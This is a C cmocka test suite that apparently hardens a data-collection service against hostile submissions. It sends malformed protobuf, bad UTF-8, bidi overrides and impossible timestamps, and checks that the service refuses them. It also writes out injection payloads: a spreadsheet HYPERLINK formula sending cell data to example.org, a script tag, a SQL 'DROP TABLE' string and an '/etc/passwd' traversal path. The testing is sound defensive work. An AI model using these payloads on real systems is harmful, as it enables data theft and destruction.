/* Attacks with what stands in one submission: against its reader, its rules, and whoever opens the
 * data sets and reports later. */
#include "tests/support/attack.h"
#include "tests/support/raw_message.h"
#include "tests/support/scratch.h"

#include "base/clock.h"
#include "base/file.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

/* Fields of Submission and Finding, by number (proto/parallax/v1/submission.proto). */
#define FIELD_COUNTRY 4u
#define FIELD_FINDING 16u
#define FIELD_WITHDRAWAL 20u
#define FIELD_OBSERVATIONS 48u
#define FIELD_UNKNOWN 9000u
#define STUFFING_BYTES ((size_t)64 * 1024)
#define OUTPUT_BYTES_MAX ((size_t)64 * 1024 * 1024)

static const struct collector_reply *submit(struct attack *attack,
                                            const struct submission *submission)
{
    static struct buffer bytes;
    const struct peer_item item = peer_item_of(submission, &bytes);
    const struct collector_reply *reply = peer_submit(attack->peer, &item, 1);
    buffer_free(&bytes);
    return reply;
}

static void assert_accepted(struct attack *attack, const struct collector_reply *reply)
{
    assert_int_equal(reply->kind, REPLY_OUTCOMES);
    if (!reply->outcomes[0].accepted)
        fail_msg("refused: %.*s %.*s", TEXT_ARGS(reply->outcomes[0].field),
                 TEXT_ARGS(reply->outcomes[0].code));
    attack->accepted++;
}

/* ---- fields that nobody asked for ---- */

/* There is no field for it; whatever one is called, the sender is who holds the key. */
static void organisation_in_unknown_fields(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE;
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    struct uuid other;
    assert_true(uuid_parse(text_of(attack->other_id), &other));
    (void)peer_item_of(&finding, &bytes);
    for (uint32_t field = 10; field < 16; field++)
        raw_bytes(&bytes, field, (struct text){(const char *)other.bytes, sizeof other.bytes});
    assert_accepted(attack, attack_submit_bytes(attack, &bytes));
    attack_assert_sender(attack, &finding.id, attack->member_id);
    buffer_free(&bytes);
}

static void unknown_fields_64_kib(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE;
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    (void)peer_item_of(&finding, &bytes);
    while (bytes.length < STUFFING_BYTES) {
        raw_tag(&bytes, FIELD_UNKNOWN, RAW_VARINT);
        raw_varint(&bytes, 1);
    }
    /* Each takes 40 times as much memory as bytes: more than one submission may have. */
    attack_assert_outcome(attack_submit_bytes(attack, &bytes), "MESSAGE_TOO_LARGE");
    buffer_free(&bytes);
}

static void empty_observations_64_kib(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE, more = BUFFER_NONE;
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    (void)peer_item_of(&finding, &bytes);
    while (more.length < STUFFING_BYTES)
        raw_bytes(&more, FIELD_OBSERVATIONS, TEXT_NONE);
    raw_bytes(&bytes, FIELD_FINDING, buffer_view(&more));
    attack_assert_outcome(attack_submit_bytes(attack, &bytes), "MESSAGE_TOO_LARGE");
    buffer_free(&bytes);
    buffer_free(&more);
}

/* The last value counts, for who checks and for who stores alike. */
static void country_said_twice(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE;
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    (void)peer_item_of(&finding, &bytes);
    raw_bytes(&bytes, FIELD_COUNTRY, text_of("UZB"));
    attack_assert_outcome(attack_submit_bytes(attack, &bytes), "COUNTRY_OUT_OF_SCOPE");
    raw_bytes(&bytes, FIELD_COUNTRY, text_of("KGZ"));
    assert_accepted(attack, attack_submit_bytes(attack, &bytes));
    attack_assert_column(attack, &finding.id, "country", "KGZ");
    buffer_free(&bytes);
}

/* Two contents of different kinds: judged as one of them, never as a mixture. */
static void two_contents_in_one(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE;
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    (void)peer_item_of(&finding, &bytes);
    raw_bytes(&bytes, FIELD_WITHDRAWAL, TEXT_NONE);
    attack_assert_outcome(attack_submit_bytes(attack, &bytes), "SUPERSEDES_NEEDED");
    buffer_free(&bytes);
}

static void nested_groups_in_a_submission(void **state)
{
    struct attack *attack = *state;
    struct buffer bytes = BUFFER_NONE;
    for (int i = 0; i < 60000; i++)
        raw_tag(&bytes, 16, RAW_GROUP);
    attack_assert_outcome(attack_submit_bytes(attack, &bytes), "MESSAGE_UNREADABLE");
    buffer_free(&bytes);
}

/* ---- text ---- */

static void overlong_utf8(void **state)
{
    struct attack *attack = *state;
    static const char *const bad[] = {"\xc0\xaf",         "\xc0\x80",
                                      "\xe0\x80\xaf",     "\xf0\x80\x80\xaf",
                                      "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80",
                                      "\xed\xa0\x80",     "\x80",
                                      "\xe2\x82"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
        finding.content.finding.title = text_of(bad[i]);
        attack_assert_outcome(submit(attack, &finding), "TEXT_NOT_UTF8");
    }
}

static void text_that_turns_around(void **state)
{
    struct attack *attack = *state;
    static const char *const bad[] = {
        "\xe2\x80\xaeshelters",             /* right-to-left override that stays open */
        "\xe2\x81\xa7shelters\xe2\x80\xac", /* an isolate closed as an embedding */
        "shelters\xe2\x80\xac",             /* closed and never opened */
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
        finding.content.finding.title = text_of(bad[i]);
        attack_assert_outcome(submit(attack, &finding), "TEXT_BIDI_UNBALANCED");
    }
}

/* ---- time ---- */

static void clocks_that_are_wrong(void **state)
{
    struct attack *attack = *state;
    struct submission ahead = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    ahead.created_ms = clock_wall_ms() + 2 * CLOCK_DAY_MS;
    attack_assert_outcome(submit(attack, &ahead), "TIME_AHEAD");
    ahead.created_ms = INT64_MAX;
    attack_assert_outcome(submit(attack, &ahead), "TIME_AHEAD");
    /* None at all, or the first instant there is for a clock that lost its battery. */
    struct submission behind = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    behind.created_ms = 0;
    attack_assert_outcome(submit(attack, &behind), "FIELD_MISSING");
    behind.created_ms = INT64_MIN;
    attack_assert_outcome(submit(attack, &behind), "NUMBER_OUT_OF_RANGE");
    /* What was written is worth more than its date. */
    behind.created_ms = 1;
    assert_accepted(attack, submit(attack, &behind));
    attack_assert_column(attack, &behind.id, "extract(year FROM created_at AT TIME ZONE 'UTC')",
                         "1970");
}

/* ---- who reads it later ---- */

#define FORMULA "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
#define SCRIPT "<script>alert(1)</script>"
#define QUERY "'); DROP TABLE submission; --"

static char *exported(struct attack *attack, const char *name)
{
    struct error error;
    struct buffer content = BUFFER_NONE;
    char *path = scratch_path(attack->pipeline->folder, name);
    assert_int_equal(file_read(path, OUTPUT_BYTES_MAX, &content, &error), VERDICT_OK);
    free(path);
    return content.data;
}

static struct uuid submit_titled(struct attack *attack, const char *title)
{
    struct submission finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    finding.content.finding.title = text_of(title);
    assert_accepted(attack, submit(attack, &finding));
    attack_assert_column(attack, &finding.id, "title", title);
    return finding.id;
}

/* Text is text all the way: bound as a value, kept to the byte, escaped where markup is made. */
static void formulas_scripts_and_queries(void **state)
{
    struct attack *attack = *state;
    (void)submit_titled(attack, FORMULA);
    (void)submit_titled(attack, SCRIPT);
    (void)submit_titled(attack, QUERY);
    char *path = scratch_path(attack->pipeline->folder, "data.csv");
    pipeline_export(attack->pipeline, 0, "data", "--call", PIPELINE_CALL, "--set", "findings",
                    "--format", "csv", "-o", path, NULL);
    free(path);
    char *data = exported(attack, "data.csv");
    assert_non_null(strstr(data, "\"=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"click\"\")\""));
    assert_non_null(strstr(data, QUERY));
    free(data);
    path = scratch_path(attack->pipeline->folder, "report.html");
    pipeline_export(attack->pipeline, 0, "report", "--call", PIPELINE_CALL, "--form", "vnr-shadow",
                    "--country", "KGZ", "--lang", "en", "--format", "html", "-o", path, NULL);
    free(path);
    data = exported(attack, "report.html");
    assert_non_null(strstr(data, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_null(strstr(data, SCRIPT));
    free(data);
}

/* Files are named by us alone; where a code is wanted, a path is none. */
static void paths_in_names(void **state)
{
    struct attack *attack = *state;
    static const char path[] = "../../../etc/passwd";
    struct submission finding = peer_finding(path, CONSENT_PUBLIC);
    attack_assert_outcome(submit(attack, &finding), "ID_UNREADABLE");
    finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    finding.country = text_of(path);
    attack_assert_outcome(submit(attack, &finding), "REFERENCE_UNKNOWN");
    finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    finding.language = text_of(path);
    attack_assert_outcome(submit(attack, &finding), "LANGUAGE_UNREADABLE");
    finding = peer_finding(PIPELINE_CALL, CONSENT_PUBLIC);
    finding.content.finding.stance = STANCE_CONFIRMS;
    finding.content.finding.claim = text_of(path);
    attack_assert_outcome(submit(attack, &finding), "ID_UNREADABLE");
    (void)submit_titled(attack, path);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        ATTACK(organisation_in_unknown_fields),
        ATTACK(unknown_fields_64_kib),
        ATTACK(empty_observations_64_kib),
        ATTACK(country_said_twice),
        ATTACK(two_contents_in_one),
        ATTACK(nested_groups_in_a_submission),
        ATTACK(overlong_utf8),
        ATTACK(text_that_turns_around),
        ATTACK(clocks_that_are_wrong),
        ATTACK(formulas_scripts_and_queries),
        ATTACK(paths_in_names),
        cmocka_unit_test(attack_nothing_else_is_stored),
        cmocka_unit_test(attack_nobody_is_in_the_log),
    };
    return cmocka_run_group_tests_name("attack_submissions", tests, attack_start, attack_stop);
}
